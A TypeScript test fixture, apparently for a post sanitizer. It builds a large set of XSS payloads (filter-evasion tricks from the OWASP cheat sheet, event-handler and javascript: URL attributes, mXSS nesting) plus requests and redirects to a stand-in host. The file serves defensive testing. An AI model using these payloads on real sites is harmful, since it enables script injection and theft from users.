/** Elements of HTML, old and new: those that posts may hold, and those that they may not. */
const elements = [
  ...'a abbr b blockquote br center cite code del details dfn div dl em figcaption figure font h2 h3 hr i img ins kbd'.split(
    ' ',
  ),
  ...'li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table td th tr u ul var'.split(
    ' ',
  ),
  ...'applet audio base button embed form frame frameset iframe input isindex link marquee math meta noscript object'.split(
    ' ',
  ),
  ...'option param plaintext script select slot source style svg template textarea title track video x-own xmp'.split(
    ' ',
  ),
];

const run = 'window.breach=1';
const elsewhere = 'https://attack.invalid/x';

/** Attributes that could run something, ask something of another site, or change what is around the post. */
const attributes = [
  ...['click', 'error', 'load', 'mouseover', 'pointerover', 'toggle', 'beforetoggle', 'animationstart'].map(
    (name) => `on${name}="${run}"`,
  ),
  `autofocus tabindex=0 onfocus="${run}"`,
  `contenteditable onfocusin="${run}"`,
  `style="background:url(${elsewhere});position:fixed;inset:0"`,
  `href="javascript:${run}"`,
  `href=" &#106;ava&Tab;script:${run}"`,
  `href="${elsewhere}" ping="${elsewhere}" target="_top"`,
  `href="//attack.invalid/x"`,
  `src="javascript:${run}"`,
  `src="${elsewhere}"`,
  `src="x" onerror="${run}"`,
  `srcset="${elsewhere} 2x"`,
  `srcdoc="<script>parent.${run}</script>"`,
  `data="${elsewhere}"`,
  `action="${elsewhere}" formaction="javascript:${run}"`,
  `xlink:href="javascript:${run}"`,
  `background="${elsewhere}" poster="${elsewhere}"`,
  `id="root" name="body" class="code-copy heading-link" is="x-y"`,
  `http-equiv="refresh" content="0;url=${elsewhere}" rel="stylesheet"`,
  `title="&quot;><img src=x onerror=${run}>"`,
  `title='"><script>${run}</script>' data-footnote-ref dir="rtl" lang="x" hidden popover`,
];

/** Ways to get HTML past a filter that have worked elsewhere: https://owasp.org/www-community/xss-filter-evasion-cheatsheet */
export const tricks: readonly string[] = [
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<img src=x onerror=${run}//`,
  `<img/src=x/onerror=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></table></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<textarea></textarea><img src=x onerror=${run}></textarea>`,
  `<title></title><script>${run}</script></title>`,
  `<details open ontoggle=${run}><summary>x</summary>y</details>`,
  `<a href="javas\tcript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="vbscript:${run}">x</a>`,
  `[x](javascript:${run})`,
  `[x](<java&#115;cript:${run}>)`,
  `![x](javascript:${run})`,
  `![x"onerror="${run}](x)`,
  `![x](x "onerror=${run}")`,
  `<abbr title="&lt;img src=x onerror=${run}&gt;">x</abbr>`,
  `<!--><script>${run}</script>-->`,
  `<!-- --!><script>${run}</script> -->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\<script>${run}</script>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  `<form><button formaction=javascript:${run}>x</button></form>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<style>@import "${elsewhere}";</style>`,
  `<link rel=stylesheet href="${elsewhere}">`,
  `<base href="https://attack.invalid/">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<p><b><a href="${elsewhere}"><table><tr><td></b></a>x`,
  `</div></article></main></div><script>${run}</script>`,
  `<b title="</b><script>${run}</script>">x</b>`,
  // What comes behind these is inside them, so they are the last.
  `<script\n>${run}</script\n>`,
];

/**
 * The bodies of posts that try to run something or to reach another site: tricks in the first one, and in the others
 * every element with every attribute, in a line and as a block, so many that each is of a size that people write.
 */
export function attackBodies(): string[] {
  const lines = elements.flatMap((name) =>
    attributes.flatMap((attribute) => [
      `A <${name} ${attribute}>word</${name}> in a line.`,
      `<${name} ${attribute}>\nwords\n</${name}>`,
    ]),
  );
  const quoted = inPlaces.flatMap((place) => tricks.map(place));
  const posts = Array.from({ length: Math.ceil(lines.length / perPost) }, (_, n) =>
    lines.slice(n * perPost, (n + 1) * perPost),
  );
  return [quoted, ...posts].map((payloads) =>
    payloads.map((payload, at) => (at % 40 === 0 ? `## Section ${at}\n\n${payload}` : payload)).join('\n\n'),
  );
}

/** Where a trick may stand: by itself, in a line, in a cell. */
export const inPlaces: readonly ((trick: string) => string)[] = [
  (trick) => `| a |\n|---|\n| ${trick.replaceAll('\n', ' ')} |`,
  (trick) => `Words ${trick} words.`,
  (trick) => trick,
];

const perPost = 900;
